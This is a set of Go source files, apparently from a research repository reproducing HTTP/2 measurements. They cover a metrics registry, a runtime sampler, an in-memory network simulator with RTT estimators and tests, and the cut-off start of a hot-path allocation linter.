// goroutines while snapshots are taken concurrently; run under -race this is
// the registry's data-race certificate (satellite 3).
func TestConcurrentHammer(t *testing.T) {
	const (
		goroutines = 32
		perG       = 2000
	)
	r := NewRegistry()
	c := r.Counter("hammer_total", "")
	g := r.Gauge("hammer_gauge", "")
	h := r.Histogram("hammer_hist", "", 1, 16)
	r.GaugeFunc("hammer_fn", "", func() int64 { return c.Value() })

	var workers, reader sync.WaitGroup
	stop := make(chan struct{})
	reader.Add(1)
	go func() { // concurrent snapshot reader
		defer reader.Done()
		for {
			select {
			case <-stop:
				return
			default:
			}
			for _, m := range r.Snapshot() {
				if m.Histogram != nil && m.Histogram.Count > 0 {
					_ = m.Histogram.Quantile(0.9)
				}
			}
		}
	}()
	for i := 0; i < goroutines; i++ {
		workers.Add(1)
		go func(i int) {
			defer workers.Done()
			for j := 0; j < perG; j++ {
				c.Inc()
				g.Add(1)
				h.Observe(int64(i*perG + j))
				// Concurrent get-or-create of the same names must be safe too.
				r.Counter("hammer_total", "").Add(1)
			}
		}(i)
	}
	workers.Wait()
	close(stop)
	reader.Wait()

	const want = goroutines * perG
	if got := c.Value(); got != 2*want {
		t.Fatalf("counter = %d, want %d", got, 2*want)
	}
	if got := g.Value(); got != want {
		t.Fatalf("gauge = %d, want %d", got, want)
	}
	s := h.Snapshot()
	if s.Count != want {
		t.Fatalf("histogram count = %d, want %d", s.Count, want)
	}
	var bucketSum int64
	for _, n := range s.Buckets {
		bucketSum += n
	}
	if bucketSum != want {
		t.Fatalf("bucket sum = %d, want %d", bucketSum, want)
	}
}

func TestRuntimeSampler(t *testing.T) {
	r := NewRegistry()
	s := NewRuntimeSampler(r, time.Millisecond)
	defer s.Stop()
	s.Start()
	s.Start() // idempotent
	time.Sleep(5 * time.Millisecond)
	s.Sample()
	snap := r.Snapshot()
	byName := make(map[string]MetricSnapshot, len(snap))
	for _, m := range snap {
		byName[m.Name] = m
	}
	if byName["go_goroutines"].Value <= 0 {
		t.Fatalf("go_goroutines = %d, want > 0", byName["go_goroutines"].Value)
	}
	if byName["go_heap_alloc_bytes"].Value <= 0 {
		t.Fatalf("go_heap_alloc_bytes = %d, want > 0", byName["go_heap_alloc_bytes"].Value)
	}
	if _, ok := byName["go_gc_pause_ns"]; !ok {
		t.Fatal("go_gc_pause_ns histogram missing")
	}
	s.Stop()
	s.Stop() // safe on stopped sampler
}
