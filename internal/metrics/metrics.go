// Package metrics is the reproduction's unified measurement substrate: a
// dependency-free, allocation-conscious registry of counters, gauges, and
// log-linear histograms that every hot layer (framing, connections, the
// testbed server, the scan engine, the load generator) emits into.
//
// The paper's value is in measurement — multiplexing timings, flow-control
// stalls, HPACK ratios, PING RTTs — yet a harness that cannot observe
// itself cannot defend its own numbers. This package closes that gap: the
// same instruments that drive the live exposition endpoint (see handler.go)
// also feed the scan engine's Stats snapshots, the census's final metrics
// table, and the persisted JSONL trailer, so there is one accounting path
// from the wire to every report.
//
// Design constraints, in order:
//
//  1. The hot path (Counter.Inc, Histogram.Observe) is a handful of atomic
//     operations and never allocates — instrumenting the per-frame path
//     must not perturb the throughput it measures.
//  2. Snapshots are mergeable values, so per-run and process-cumulative
//     views coexist (the scan engine keeps exact per-run stats while
//     mirroring into a process-wide registry for the debug endpoint).
//  3. No dependencies beyond the standard library and internal/stats.
package metrics

import (
	"fmt"
	"math"
	"sort"
	"sync"
	"sync/atomic"
	"time"
)

// Counter is a monotonically increasing int64. The zero value is unusable;
// construct with NewCounter or Registry.Counter.
type Counter struct {
	v atomic.Int64
}

// NewCounter returns an unregistered counter (the scan engine keeps private
// per-run instruments this way).
func NewCounter() *Counter { return &Counter{} }

// Inc adds one.
func (c *Counter) Inc() { c.v.Add(1) }

// Add adds n (negative deltas are ignored: counters only go up).
func (c *Counter) Add(n int64) {
	if n > 0 {
		c.v.Add(n)
	}
}

// Value returns the current count.
func (c *Counter) Value() int64 { return c.v.Load() }

// Gauge is an instantaneous int64 value that may go up and down.
type Gauge struct {
	v atomic.Int64
}

// NewGauge returns an unregistered gauge.
func NewGauge() *Gauge { return &Gauge{} }

// Set stores v.
func (g *Gauge) Set(v int64) { g.v.Store(v) }

// Add adjusts the gauge by delta (either sign).
func (g *Gauge) Add(delta int64) { g.v.Add(delta) }

// Value returns the current value.
func (g *Gauge) Value() int64 { return g.v.Load() }

// metricKind discriminates registry entries.
type metricKind uint8

const (
	kindCounter metricKind = iota + 1
	kindGauge
	kindGaugeFunc
	kindHistogram
)

// String names the kind in exposition formats.
func (k metricKind) String() string {
	switch k {
	case kindCounter:
		return "counter"
	case kindGauge, kindGaugeFunc:
		return "gauge"
	case kindHistogram:
		return "histogram"
	default:
		return "unknown"
	}
}

// metric is one registered instrument.
type metric struct {
	name string
	help string
	kind metricKind

	counter   *Counter
	gauge     *Gauge
	gaugeFn   func() int64
	histogram *Histogram
}

// Registry holds named instruments for exposition. Instruments are
// get-or-create by full name (labels included), so independent layers can
// share one registry without coordination: the second caller of
// Counter("h2_frames_read_total{type=\"DATA\"}", ...) gets the first
// caller's counter. Lookup takes the registry lock; callers cache the
// returned instrument and pay only atomics afterwards.
type Registry struct {
	mu     sync.Mutex
	byName map[string]*metric
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry {
	return &Registry{byName: make(map[string]*metric)}
}

// Label formats one Prometheus-style label pair onto a metric name:
// Label("h2_frames_read_total", "type", "DATA") returns
// `h2_frames_read_total{type="DATA"}`. A name that already carries labels
// gains one more.
func Label(name, key, value string) string {
	if i := len(name) - 1; i >= 0 && name[i] == '}' {
		return fmt.Sprintf(`%s,%s=%q}`, name[:i], key, value)
	}
	return fmt.Sprintf(`%s{%s=%q}`, name, key, value)
}

// lookup returns the named metric, creating it with mk on first use. It
// panics on a kind clash: two layers disagreeing about what a name means is
// a programming error, not a runtime condition.
func (r *Registry) lookup(name, help string, kind metricKind, mk func() *metric) *metric {
	r.mu.Lock()
	defer r.mu.Unlock()
	if m, ok := r.byName[name]; ok {
		if m.kind != kind && !(m.kind == kindGauge && kind == kindGaugeFunc) &&
			!(m.kind == kindGaugeFunc && kind == kindGauge) {
			panic(fmt.Sprintf("metrics: %q registered as %v, requested as %v", name, m.kind, kind))
		}
		return m
	}
	m := mk()
	m.name, m.help, m.kind = name, help, kind
	r.byName[name] = m
	return m
}

// Counter returns the named counter, creating it on first use.
func (r *Registry) Counter(name, help string) *Counter {
	return r.lookup(name, help, kindCounter, func() *metric {
		return &metric{counter: NewCounter()}
	}).counter
}

// Gauge returns the named gauge, creating it on first use.
func (r *Registry) Gauge(name, help string) *Gauge {
	return r.lookup(name, help, kindGauge, func() *metric {
		return &metric{gauge: NewGauge()}
	}).gauge
}

// GaugeFunc registers a gauge whose value is computed at snapshot time (the
// trace subsystem exports its ring counters this way). Re-registering a
// name replaces the function, so a reconnecting producer can re-point the
// gauge at its live state.
func (r *Registry) GaugeFunc(name, help string, fn func() int64) {
	m := r.lookup(name, help, kindGaugeFunc, func() *metric { return &metric{} })
	r.mu.Lock()
	m.gaugeFn = fn
	r.mu.Unlock()
}

// Histogram returns the named histogram, creating it on first use with the
// given unit and bucket count (see NewHistogram). Unit and bucket count are
// fixed by the first caller.
func (r *Registry) Histogram(name, help string, unit int64, buckets int) *Histogram {
	return r.lookup(name, help, kindHistogram, func() *metric {
		return &metric{histogram: NewHistogram(unit, buckets)}
	}).histogram
}

// MetricSnapshot is one instrument's point-in-time value, the unit of both
// the JSON exposition format and the persisted census trailer.
type MetricSnapshot struct {
	// Name is the full registered name, labels included.
	Name string `json:"name"`
	// Type is "counter", "gauge", or "histogram".
	Type string `json:"type"`
	// Help is the registration help text.
	Help string `json:"help,omitempty"`
	// Value carries counter and gauge readings.
	Value int64 `json:"value"`
	// Histogram carries histogram state; nil for scalar instruments.
	Histogram *HistogramSnapshot `json:"histogram,omitempty"`
}

// Snapshot returns every registered instrument's current value, sorted by
// name so exposition output is deterministic. Concurrent updates may or may
// not be included; each included value is internally consistent.
func (r *Registry) Snapshot() []MetricSnapshot {
	r.mu.Lock()
	ms := make([]*metric, 0, len(r.byName))
	for _, m := range r.byName {
		ms = append(ms, m)
	}
	r.mu.Unlock()
	sort.Slice(ms, func(i, j int) bool { return ms[i].name < ms[j].name })

	out := make([]MetricSnapshot, 0, len(ms))
	for _, m := range ms {
		s := MetricSnapshot{Name: m.name, Type: m.kind.String(), Help: m.help}
		switch m.kind {
		case kindCounter:
			s.Value = m.counter.Value()
		case kindGauge:
			s.Value = m.gauge.Value()
		case kindGaugeFunc:
			if m.gaugeFn != nil {
				s.Value = m.gaugeFn()
			}
		case kindHistogram:
			h := m.histogram.Snapshot()
			s.Histogram = &h
			s.Value = h.Count
		}
		out = append(out, s)
	}
	return out
}

// --- runtime sampling ---

// Quantile is a convenience for duration-valued histogram snapshots: it
// returns the q-quantile as a time.Duration (histograms storing byte sizes
// should use HistogramSnapshot.Quantile directly).
func Quantile(s *HistogramSnapshot, q float64) time.Duration {
	if s == nil {
		return 0
	}
	return time.Duration(s.Quantile(q))
}

// clampFloat converts a float64 reading (e.g. a ratio scaled by 1000) into
// an int64 gauge value without overflow surprises.
func clampFloat(v float64) int64 {
	if math.IsNaN(v) {
		return 0
	}
	if v > math.MaxInt64 {
		return math.MaxInt64
	}
	if v < math.MinInt64 {
		return math.MinInt64
	}
	return int64(v)
}
