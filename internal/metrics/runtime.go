package metrics

import (
	"runtime"
	"sync"
	"time"
)

// DefaultSampleInterval is the runtime sampler's default period.
const DefaultSampleInterval = time.Second

// Sampler periodically records Go runtime health — goroutine count, heap
// state, GC activity — into a registry, so a long census or load run can be
// inspected mid-flight through the debug endpoint. Slow-HTTP/2 DoS work
// (Tripathi 2022) treats exactly this kind of event-rate telemetry as a
// research instrument; here it doubles as the harness's own vital signs.
type Sampler struct {
	interval time.Duration

	goroutines  *Gauge
	heapAlloc   *Gauge
	heapSys     *Gauge
	heapObjects *Gauge
	gcCycles    *Gauge
	gcPauseNS   *Histogram

	mu        sync.Mutex
	lastNumGC uint32
	stop      chan struct{}
	done      chan struct{}
}

// NewRuntimeSampler registers the runtime instruments in r and returns a
// stopped sampler; call Start to begin sampling every interval
// (DefaultSampleInterval when interval <= 0).
func NewRuntimeSampler(r *Registry, interval time.Duration) *Sampler {
	if interval <= 0 {
		interval = DefaultSampleInterval
	}
	s := &Sampler{
		interval:    interval,
		goroutines:  r.Gauge("go_goroutines", "current goroutine count"),
		heapAlloc:   r.Gauge("go_heap_alloc_bytes", "bytes of allocated heap objects"),
		heapSys:     r.Gauge("go_heap_sys_bytes", "bytes of heap obtained from the OS"),
		heapObjects: r.Gauge("go_heap_objects", "number of allocated heap objects"),
		gcCycles:    r.Gauge("go_gc_cycles_total", "completed GC cycles"),
		gcPauseNS:   r.Histogram("go_gc_pause_ns", "stop-the-world GC pause durations (ns, bucketed per µs)", int64(time.Microsecond), 0),
	}
	s.Sample() // seed the gauges so a scrape before Start still sees values
	return s
}

// Sample records one observation of the runtime immediately. It is called
// automatically by the Start loop; tests and one-shot tools call it
// directly.
func (s *Sampler) Sample() {
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	s.goroutines.Set(int64(runtime.NumGoroutine()))
	s.heapAlloc.Set(clampFloat(float64(ms.HeapAlloc)))
	s.heapSys.Set(clampFloat(float64(ms.HeapSys)))
	s.heapObjects.Set(clampFloat(float64(ms.HeapObjects)))
	s.gcCycles.Set(int64(ms.NumGC))

	// Feed pauses that completed since the previous sample into the pause
	// histogram. PauseNs is a circular buffer of the last 256 pauses keyed
	// by NumGC; the (mu-guarded) cursor walk never double-counts.
	s.mu.Lock()
	last := s.lastNumGC
	if ms.NumGC > last {
		newPauses := ms.NumGC - last
		if newPauses > uint32(len(ms.PauseNs)) {
			newPauses = uint32(len(ms.PauseNs))
		}
		for i := uint32(0); i < newPauses; i++ {
			idx := (ms.NumGC - i + uint32(len(ms.PauseNs)) - 1) % uint32(len(ms.PauseNs))
			s.gcPauseNS.Observe(int64(ms.PauseNs[idx]))
		}
		s.lastNumGC = ms.NumGC
	}
	s.mu.Unlock()
}

// Start launches the periodic sampling loop; it is a no-op if the sampler
// is already running.
func (s *Sampler) Start() {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.stop != nil {
		return
	}
	s.stop = make(chan struct{})
	s.done = make(chan struct{})
	go func(stop, done chan struct{}) {
		defer close(done)
		t := time.NewTicker(s.interval)
		defer t.Stop()
		for {
			select {
			case <-t.C:
				s.Sample()
			case <-stop:
				return
			}
		}
	}(s.stop, s.done)
}

// Stop halts the sampling loop and waits for it to exit; safe to call on a
// never-started or already-stopped sampler.
func (s *Sampler) Stop() {
	s.mu.Lock()
	stop, done := s.stop, s.done
	s.stop, s.done = nil, nil
	s.mu.Unlock()
	if stop == nil {
		return
	}
	close(stop)
	<-done
}
