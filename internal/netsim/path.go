package netsim

import (
	"fmt"
	"math/rand"
	"sync"
	"time"
)

// Path models one network path to a host: a base round-trip time plus
// per-packet jitter. All four RTT estimators of the paper's Fig. 6 run over
// the same Path, so their results are directly comparable against the
// path's ground truth.
type Path struct {
	// BaseRTT is the ground-truth round-trip time with zero jitter.
	BaseRTT time.Duration
	// Jitter is the maximum extra one-way delay added per packet.
	Jitter time.Duration

	mu  sync.Mutex
	rng *rand.Rand
}

// NewPath returns a path with the given base RTT and jitter, seeded for
// reproducible jitter sequences.
func NewPath(baseRTT, jitter time.Duration, seed int64) *Path {
	return &Path{
		BaseRTT: baseRTT,
		Jitter:  jitter,
		rng:     rand.New(rand.NewSource(seed)),
	}
}

// owd samples one one-way delay.
func (p *Path) owd() time.Duration {
	p.mu.Lock()
	defer p.mu.Unlock()
	d := p.BaseRTT / 2
	if p.Jitter > 0 {
		d += time.Duration(p.rng.Int63n(int64(p.Jitter)))
	}
	return d
}

// Connect returns a client/server pipe pair shaped with this path's delay.
func (p *Path) Connect() (client, server *Conn) {
	return LatencyPipe(p.owd(), p.owd())
}

// ICMPPing is the reproduction's equivalent of an ICMP echo: an 8-byte
// probe is echoed by the remote end over a freshly shaped pipe and the
// round trip is measured with wall-clock time. Real ICMP needs raw sockets;
// the echo exercises the same path without them.
func (p *Path) ICMPPing() (time.Duration, error) {
	client, srv := p.Connect()
	defer func() {
		_ = client.Close()
	}()
	go func() {
		defer func() {
			_ = srv.Close()
		}()
		buf := make([]byte, 8)
		if _, err := readFull(srv, buf); err != nil {
			return
		}
		_, _ = srv.Write(buf)
	}()
	start := time.Now()
	if _, err := client.Write([]byte("icmpecho")); err != nil {
		return 0, fmt.Errorf("netsim: icmp write: %w", err)
	}
	buf := make([]byte, 8)
	if _, err := readFull(client, buf); err != nil {
		return 0, fmt.Errorf("netsim: icmp read: %w", err)
	}
	return time.Since(start), nil
}

// TCPHandshakeRTT estimates RTT from a simulated three-way handshake: the
// interval between sending SYN and receiving SYN/ACK, as in the paper's
// TCP-based method.
func (p *Path) TCPHandshakeRTT() (time.Duration, error) {
	client, srv := p.Connect()
	defer func() {
		_ = client.Close()
	}()
	go func() {
		defer func() {
			_ = srv.Close()
		}()
		buf := make([]byte, 3)
		if _, err := readFull(srv, buf); err != nil {
			return
		}
		_, _ = srv.Write([]byte("SA.")) // SYN/ACK
	}()
	start := time.Now()
	if _, err := client.Write([]byte("SYN")); err != nil {
		return 0, fmt.Errorf("netsim: syn write: %w", err)
	}
	buf := make([]byte, 3)
	if _, err := readFull(client, buf); err != nil {
		return 0, fmt.Errorf("netsim: synack read: %w", err)
	}
	return time.Since(start), nil
}

func readFull(c *Conn, buf []byte) (int, error) {
	total := 0
	for total < len(buf) {
		n, err := c.Read(buf[total:])
		total += n
		if err != nil {
			return total, err
		}
	}
	return total, nil
}
