package netsim

import (
	"bytes"
	"io"
	"sync"
	"testing"
	"time"
)

func TestPipeRoundTrip(t *testing.T) {
	a, b := Pipe()
	defer func() {
		_ = a.Close()
		_ = b.Close()
	}()
	msg := []byte("hello over the simulated wire")
	go func() {
		if _, err := a.Write(msg); err != nil {
			t.Errorf("write: %v", err)
		}
	}()
	buf := make([]byte, len(msg))
	if _, err := io.ReadFull(b, buf); err != nil {
		t.Fatalf("read: %v", err)
	}
	if !bytes.Equal(buf, msg) {
		t.Fatalf("got %q, want %q", buf, msg)
	}
}

func TestPipeWritesDoNotRendezvous(t *testing.T) {
	// Unlike net.Pipe, both ends must be able to write a burst before
	// either reads — this is exactly the simultaneous-SETTINGS pattern
	// that deadlocks protocol endpoints on synchronous pipes.
	a, b := Pipe()
	defer func() {
		_ = a.Close()
		_ = b.Close()
	}()
	done := make(chan struct{})
	go func() {
		defer close(done)
		for i := 0; i < 100; i++ {
			if _, err := a.Write(make([]byte, 1024)); err != nil {
				t.Errorf("a.Write: %v", err)
				return
			}
			if _, err := b.Write(make([]byte, 1024)); err != nil {
				t.Errorf("b.Write: %v", err)
				return
			}
		}
	}()
	select {
	case <-done:
	case <-time.After(5 * time.Second):
		t.Fatal("writes blocked: pipe is rendezvous-based")
	}
}

func TestPipeEOFAfterClose(t *testing.T) {
	a, b := Pipe()
	if _, err := a.Write([]byte("tail")); err != nil {
		t.Fatal(err)
	}
	_ = a.Close()
	buf := make([]byte, 4)
	if _, err := io.ReadFull(b, buf); err != nil {
		t.Fatalf("read buffered data after close: %v", err)
	}
	if _, err := b.Read(buf); err != io.EOF {
		t.Fatalf("read after drain = %v, want io.EOF", err)
	}
	if _, err := b.Write([]byte("x")); err == nil {
		t.Fatal("write to closed peer succeeded")
	}
}

func TestLatencyPipeDelaysDelivery(t *testing.T) {
	const owd = 20 * time.Millisecond
	a, b := LatencyPipe(owd, 0)
	defer func() {
		_ = a.Close()
		_ = b.Close()
	}()
	start := time.Now()
	if _, err := a.Write([]byte("x")); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 1)
	if _, err := b.Read(buf); err != nil {
		t.Fatal(err)
	}
	if elapsed := time.Since(start); elapsed < owd {
		t.Errorf("delivery took %v, want >= %v", elapsed, owd)
	}
}

func TestListenerAcceptDial(t *testing.T) {
	l := NewListener("site-a")
	defer func() {
		_ = l.Close()
	}()
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		c, err := l.Accept()
		if err != nil {
			t.Errorf("accept: %v", err)
			return
		}
		defer func() {
			_ = c.Close()
		}()
		buf := make([]byte, 2)
		if _, err := io.ReadFull(c, buf); err != nil {
			t.Errorf("server read: %v", err)
			return
		}
		if _, err := c.Write(buf); err != nil {
			t.Errorf("server write: %v", err)
		}
	}()
	c, err := l.Dial()
	if err != nil {
		t.Fatalf("dial: %v", err)
	}
	defer func() {
		_ = c.Close()
	}()
	if _, err := c.Write([]byte("hi")); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 2)
	if _, err := io.ReadFull(c, buf); err != nil {
		t.Fatal(err)
	}
	wg.Wait()
	if string(buf) != "hi" {
		t.Fatalf("echo = %q", buf)
	}
}

func TestListenerDialAfterClose(t *testing.T) {
	l := NewListener("dead")
	_ = l.Close()
	if _, err := l.Dial(); err == nil {
		t.Fatal("dial to closed listener succeeded")
	}
	if _, err := l.Accept(); err == nil {
		t.Fatal("accept on closed listener succeeded")
	}
}

func TestPathEstimators(t *testing.T) {
	const base = 10 * time.Millisecond
	p := NewPath(base, 2*time.Millisecond, 7)

	icmp, err := p.ICMPPing()
	if err != nil {
		t.Fatalf("ICMPPing: %v", err)
	}
	tcp, err := p.TCPHandshakeRTT()
	if err != nil {
		t.Fatalf("TCPHandshakeRTT: %v", err)
	}
	for name, rtt := range map[string]time.Duration{"icmp": icmp, "tcp": tcp} {
		if rtt < base {
			t.Errorf("%s RTT %v below ground truth %v", name, rtt, base)
		}
		if rtt > base+30*time.Millisecond {
			t.Errorf("%s RTT %v implausibly large", name, rtt)
		}
	}
}

func TestPipeConcurrentStress(t *testing.T) {
	// Many writers and one reader per direction, under load: all bytes
	// arrive, none duplicated.
	a, b := Pipe()
	defer func() {
		_ = a.Close()
		_ = b.Close()
	}()
	const (
		writers = 8
		chunks  = 200
		size    = 512
	)
	var wg sync.WaitGroup
	for w := 0; w < writers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			buf := make([]byte, size)
			for i := 0; i < chunks; i++ {
				if _, err := a.Write(buf); err != nil {
					t.Errorf("write: %v", err)
					return
				}
			}
		}()
	}
	done := make(chan int, 1)
	go func() {
		total := 0
		buf := make([]byte, 4096)
		for total < writers*chunks*size {
			n, err := b.Read(buf)
			if err != nil {
				t.Errorf("read: %v", err)
				break
			}
			total += n
		}
		done <- total
	}()
	wg.Wait()
	select {
	case total := <-done:
		if total != writers*chunks*size {
			t.Fatalf("read %d bytes, want %d", total, writers*chunks*size)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("reader stalled")
	}
}

func TestLatencyPipePreservesOrder(t *testing.T) {
	a, b := LatencyPipe(2*time.Millisecond, 0)
	defer func() {
		_ = a.Close()
		_ = b.Close()
	}()
	for i := 0; i < 50; i++ {
		if _, err := a.Write([]byte{byte(i)}); err != nil {
			t.Fatal(err)
		}
	}
	buf := make([]byte, 50)
	if _, err := io.ReadFull(b, buf); err != nil {
		t.Fatal(err)
	}
	for i, v := range buf {
		if v != byte(i) {
			t.Fatalf("byte %d = %d: reordered", i, v)
		}
	}
}

func TestPathGroundTruthTracking(t *testing.T) {
	// Jitter-free path: both estimators must land within a small overhead
	// of the configured RTT.
	const base = 30 * time.Millisecond
	p := NewPath(base, 0, 1)
	icmp, err := p.ICMPPing()
	if err != nil {
		t.Fatal(err)
	}
	tcp, err := p.TCPHandshakeRTT()
	if err != nil {
		t.Fatal(err)
	}
	for name, rtt := range map[string]time.Duration{"icmp": icmp, "tcp": tcp} {
		if rtt < base || rtt > base+15*time.Millisecond {
			t.Errorf("%s = %v, want %v..%v", name, rtt, base, base+15*time.Millisecond)
		}
	}
}
