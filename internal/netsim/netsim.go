// Package netsim provides in-process network plumbing for the reproduction:
// buffered full-duplex pipes (unlike net.Pipe, writes do not rendezvous with
// reads, so protocol endpoints cannot deadlock on simultaneous writes),
// optional one-way-delay shaping for latency experiments, and an in-memory
// listener for serving many virtual sites without OS sockets.
//
// The paper measures real Internet paths; we substitute seeded, shaped
// paths so the RTT experiment (Fig. 6) runs the same estimator code over a
// known ground-truth delay.
package netsim

import (
	"errors"
	"io"
	"net"
	"sync"
	"time"
)

// chunk is one write's worth of bytes with its earliest delivery time.
type chunk struct {
	data    []byte
	readyAt time.Time
}

// dirBuf is one direction of a pipe: an unbounded FIFO of chunks.
type dirBuf struct {
	mu     sync.Mutex
	cond   *sync.Cond
	chunks []chunk
	// delay is added to every chunk's delivery time.
	delay time.Duration
	// closed means no further writes will arrive.
	closed bool
	// rdClosed means the reader abandoned the buffer.
	rdClosed bool
}

func newDirBuf(delay time.Duration) *dirBuf {
	b := &dirBuf{delay: delay}
	b.cond = sync.NewCond(&b.mu)
	return b
}

func (b *dirBuf) write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	if b.closed || b.rdClosed {
		return 0, io.ErrClosedPipe
	}
	b.chunks = append(b.chunks, chunk{
		data:    append([]byte(nil), p...),
		readyAt: time.Now().Add(b.delay),
	})
	b.cond.Broadcast()
	return len(p), nil
}

func (b *dirBuf) read(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	for {
		if len(b.chunks) > 0 {
			head := &b.chunks[0]
			if wait := time.Until(head.readyAt); wait > 0 {
				// Latency shaping: release the lock while the chunk is in
				// flight, then re-check (new chunks never jump the queue).
				b.mu.Unlock()
				time.Sleep(wait)
				b.mu.Lock()
				continue
			}
			n := copy(p, head.data)
			head.data = head.data[n:]
			if len(head.data) == 0 {
				b.chunks = b.chunks[1:]
			}
			return n, nil
		}
		if b.closed {
			return 0, io.EOF
		}
		if b.rdClosed {
			return 0, io.ErrClosedPipe
		}
		b.cond.Wait()
	}
}

func (b *dirBuf) closeWrite() {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.closed = true
	b.cond.Broadcast()
}

func (b *dirBuf) closeRead() {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.rdClosed = true
	b.cond.Broadcast()
}

// addr is a trivial net.Addr.
type addr string

func (a addr) Network() string { return "netsim" }
func (a addr) String() string  { return string(a) }

// Conn is one end of an in-process buffered pipe.
type Conn struct {
	rd, wr     *dirBuf
	local      addr
	remote     addr
	closeOnce  sync.Once
	closeExtra func()
}

var _ net.Conn = (*Conn)(nil)

// Read implements net.Conn.
func (c *Conn) Read(p []byte) (int, error) { return c.rd.read(p) }

// Write implements net.Conn.
func (c *Conn) Write(p []byte) (int, error) { return c.wr.write(p) }

// Close implements net.Conn; it terminates both directions.
func (c *Conn) Close() error {
	c.closeOnce.Do(func() {
		c.wr.closeWrite()
		c.rd.closeRead()
		if c.closeExtra != nil {
			c.closeExtra()
		}
	})
	return nil
}

// LocalAddr implements net.Conn.
func (c *Conn) LocalAddr() net.Addr { return c.local }

// RemoteAddr implements net.Conn.
func (c *Conn) RemoteAddr() net.Addr { return c.remote }

// SetDeadline implements net.Conn as a no-op (the reproduction bounds waits
// at the protocol layer instead).
func (c *Conn) SetDeadline(time.Time) error { return nil }

// SetReadDeadline implements net.Conn as a no-op.
func (c *Conn) SetReadDeadline(time.Time) error { return nil }

// SetWriteDeadline implements net.Conn as a no-op.
func (c *Conn) SetWriteDeadline(time.Time) error { return nil }

// Pipe returns a connected pair of buffered in-process connections with no
// added latency.
func Pipe() (client, server *Conn) {
	return LatencyPipe(0, 0)
}

// LatencyPipe returns a connected pair whose directions add the given
// one-way delays (client→server and server→client respectively).
func LatencyPipe(owdClientToServer, owdServerToClient time.Duration) (client, server *Conn) {
	c2s := newDirBuf(owdClientToServer)
	s2c := newDirBuf(owdServerToClient)
	client = &Conn{rd: s2c, wr: c2s, local: "client", remote: "server"}
	server = &Conn{rd: c2s, wr: s2c, local: "server", remote: "client"}
	return client, server
}

// Listener is an in-memory net.Listener whose Dial hands the peer half of a
// fresh pipe to Accept.
type Listener struct {
	name addr
	ch   chan net.Conn

	mu     sync.Mutex
	closed bool
	done   chan struct{}
}

var _ net.Listener = (*Listener)(nil)

// NewListener returns a listener identified by name.
func NewListener(name string) *Listener {
	return &Listener{
		name: addr(name),
		ch:   make(chan net.Conn),
		done: make(chan struct{}),
	}
}

// Accept implements net.Listener.
func (l *Listener) Accept() (net.Conn, error) {
	select {
	case c := <-l.ch:
		return c, nil
	case <-l.done:
		return nil, net.ErrClosed
	}
}

// Close implements net.Listener.
func (l *Listener) Close() error {
	l.mu.Lock()
	defer l.mu.Unlock()
	if !l.closed {
		l.closed = true
		close(l.done)
	}
	return nil
}

// Addr implements net.Listener.
func (l *Listener) Addr() net.Addr { return l.name }

// Dial connects to the listener with no added latency.
func (l *Listener) Dial() (net.Conn, error) {
	return l.DialLatency(0, 0)
}

// DialLatency connects with the given one-way delays.
func (l *Listener) DialLatency(owdUp, owdDown time.Duration) (net.Conn, error) {
	client, server := LatencyPipe(owdUp, owdDown)
	select {
	case l.ch <- server:
		return client, nil
	case <-l.done:
		_ = client.Close()
		_ = server.Close()
		return nil, net.ErrClosed
	case <-time.After(5 * time.Second):
		_ = client.Close()
		_ = server.Close()
		return nil, errors.New("netsim: dial timeout: listener not accepting")
	}
}
