package lint

import (
	"go/ast"
	"go/token"
	"go/types"
	"strings"
)

// HotAllocAnalyzer guards the zero-allocation hot paths the repo's perf work
// depends on: it walks the same-package call graph rooted at the gated entry
// points — (*frame.Framer).ReadFrame / WriteData and HPACK's
// (*Encoder).AppendBlock / (*Decoder).DecodeAppend — plus any function
// carrying a //h2:hotpath doc directive, and flags the constructs the Go
// compiler turns into heap allocations: string<->[]byte conversions,
// closures, fmt calls, map/slice composite literals, make/new, fresh-slice
// appends, string concatenation, boxing into variadic ...any, and goroutine
// launches.
//
// The dynamic complement is TestHotPathAllocs (0 allocs/op under
// testing.AllocsPerRun); it proves the steady state clean but only on the
// paths the benchmark drives. The static pass covers every path — with one
// deliberate blind spot: allocations inside cold early-exit blocks
// (if-bodies that end in return/panic) are error-path work the steady state
// never executes, and are skipped, exactly the distinction the alloc gate
// draws dynamically. Amortized one-time allocations (buffer growth) are the
// intended use of //h2lint:ignore.
var HotAllocAnalyzer = &Analyzer{
	Name: "hotalloc",
	Doc:  "flags allocating constructs reachable from the zero-alloc hot-path entry points and //h2:hotpath functions",
	Run:  runHotAlloc,
}

// hotRootSpec names one built-in hot entry point by package-path suffix,
// receiver type, and method name.
type hotRootSpec struct {
	pkgSuffix string
	recv      string
	method    string
}

// hotRootSpecs is the gated zero-alloc surface from the PR-5 perf work, the
// same methods TestHotPathAllocs pins at 0 allocs/op.
var hotRootSpecs = []hotRootSpec{
	{"internal/frame", "Framer", "ReadFrame"},
	{"internal/frame", "Framer", "WriteData"},
	{"internal/hpack", "Encoder", "AppendBlock"},
	{"internal/hpack", "Decoder", "DecodeAppend"},
}

func runHotAlloc(pass *Pass) {
	info := pass.TypesInfo()
	decls := funcDecls(pass)
	pkgPath := pass.TypesPkg().Path()

	var roots []*types.Func
	rootName := make(map[*types.Func]string)
	for f, decl := range decls {
		if hasHotPathDirective(decl) {
			roots = append(roots, f)
			rootName[f] = f.Name()
		}
	}
	for _, spec := range hotRootSpecs {
		if pkgPath != spec.pkgSuffix && !strings.HasSuffix(pkgPath, "/"+spec.pkgSuffix) {
			continue
		}
		for f := range decls {
			sig, ok := f.Type().(*types.Signature)
			if !ok || sig.Recv() == nil || f.Name() != spec.method {
				continue
			}
			if namedTypeIs(sig.Recv().Type(), spec.pkgSuffix, spec.recv) {
				roots = append(roots, f)
				rootName[f] = spec.recv + "." + spec.method
			}
		}
	}
	if len(roots) == 0 {
		return
	}

	reached := reachableFrom(info, roots, decls)
	for fn, root := range reached {
